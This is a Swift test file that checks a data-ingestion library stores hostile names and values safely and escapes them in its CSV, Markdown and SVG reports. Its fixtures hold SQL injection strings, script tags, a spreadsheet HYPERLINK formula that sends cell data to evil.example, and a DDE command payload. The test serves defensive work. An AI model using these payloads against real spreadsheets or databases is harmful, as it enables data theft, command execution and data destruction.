import Foundation
import Testing
@testable import SluiceCore

/// Hostile column names, source names and values reach SQLite only as bound parameters, and
/// reports neutralise them: CSV formulas, Markdown tables, SVG markup.
@Suite("Injection")
struct InjectionTests {
    static let hostileValues = [
        #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
        "| --- |",
        "<script>alert(1)</script>",
        "'); DROP TABLE orders; --",
        "\"; DELETE FROM ingest_files; --",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "-2+3",
    ]

    /// A source whose name and mapped column names are SQL and markup, over values that are too.
    static let definition = #"""
        name: inj
        database: out/inj.sqlite
        input_root: in
        reports: reports
        max_reject_ratio: 1
        sources:
          - name: "o'; DROP TABLE orders; --"
            files: "*.csv"
            record: orders
            constants: {status: paid}
            columns:
              order_id: "id\"); DROP TABLE orders; --"
              user_id: "[user]`x`"
              ordered_at: "time' OR '1'='1"
              paid_fen: "=amount"
              platform: "<b>platform</b>"
              product_name: "| name |"
        """#

    static func csvField(_ s: String) -> String { "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }

    @Test func hostileNamesAndValuesAreStoredVerbatimAndReportedSafely() throws {
        let dir = try TemporaryDirectory()
        try dir.write("p/inj.yaml", Self.definition)
        var text = [#"id"); DROP TABLE orders; --"#, "[user]`x`", "time' OR '1'='1", "=amount", "<b>platform</b>", "| name |"]
            .map(Self.csvField).joined(separator: ",") + "\n"
        for (i, value) in Self.hostileValues.enumerated() {
            text += [value + "#\(i)", value, "2026-11-0\(2 + i % 5) 10:00:00", "\(i + 1).00", value, value].map(Self.csvField).joined(separator: ",") + "\n"
        }
        // A row that is quarantined: its reason and raw text carry the hostile value into the quality report.
        text += [Self.hostileValues[0] + "#q", "u", "2026-11-03 10:00:00", Self.hostileValues[0], "<script>alert(2)</script>", "| --- |"]
            .map(Self.csvField).joined(separator: ",") + "\n"
        try dir.write("p/in/o.csv", text)

        let definition = try DefinitionLoader.load(path: dir.path + "/p/inj.yaml", environment: [:])
        let database = try Database(path: definition.databasePath)
        try Schema.migrate(database)
        let summary = try Ingestor(definition: definition, database: database).run()
        #expect(summary.failed.isEmpty, "\(summary.failed.map { $0.error ?? "" })")
        #expect(summary.rowsLoaded == Self.hostileValues.count)
        #expect(summary.rowsQuarantined == 1)

        // Every table is still there, and each value was stored exactly as written.
        let tables = Set(try database.rows("SELECT name FROM sqlite_master WHERE type = 'table'").compactMap { $0[0].string })
        #expect(tables.isSuperset(of: ["orders", "events", "ingest_files", "quarantine", "content_daily"]))
        let stored = try database.rows("SELECT user_id, platform, product_name FROM orders ORDER BY paid_fen")
        #expect(stored.map { $0[0].string } == Self.hostileValues.map { $0.trimmingCharacters(in: .whitespaces) })
        #expect(stored.map { $0[1].string } == Self.hostileValues)
        #expect(stored.map { $0[2].string } == Self.hostileValues)
        #expect(try database.scalar("SELECT source FROM ingest_files")?.string == "o'; DROP TABLE orders; --")
        #expect(try database.scalar("SELECT count(*) FROM ingest_files")?.int == 1)
        #expect(try database.scalar("PRAGMA integrity_check")?.string == "ok")

        // Reports over the hostile data.
        let runner = ReportRunner(definition: definition, database: database, locale: .en)
        let window = ReportWindow(from: LocalDate(year: 2026, month: 11, day: 2)!, to: LocalDate(year: 2026, month: 11, day: 8)!,
                                  timeZone: definition.timeZone)
        let (folder, files) = try runner.write(window: window)
        var sawHostile = 0
        for name in files {
            let content = try String(contentsOfFile: folder + "/" + name, encoding: .utf8)
            if content.contains("HYPERLINK") || content.contains("script") || content.contains("DROP TABLE") { sawHostile += 1 }
            if name.hasSuffix(".csv") {
                for cell in Self.csvCells(content) {
                    #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false) || Double(cell) != nil,
                            "\(name): a cell starts like a formula: \(cell)")
                }
            } else if name.hasSuffix(".md") {
                // `\<` is Markdown's escaped, literal `<`.
                #expect(content.range(of: #"(?<!\\)<(script|b)>"#, options: .regularExpression) == nil, "\(name) holds raw markup")
                for line in content.split(separator: "\n") where line.hasPrefix("|") {
                    // Data never adds a column: every row of a table has as many unescaped pipes as its header.
                    #expect(!line.contains("| --- |") || line.allSatisfy { "|-: ".contains($0) }, "\(name): \(line)")
                }
            } else if name.hasSuffix(".svg") {
                #expect(!content.contains("<script"), "\(name) holds a script element")
            }
        }
        #expect(sawHostile > 0, "the hostile values reach at least one report, so the checks above saw them")
    }

    /// The cells of a CSV text (quoted fields unquoted).
    static func csvCells(_ text: String) -> [String] {
        (try? IngestFixture.csv(text).flatMap(\.fields)) ?? []
    }
}
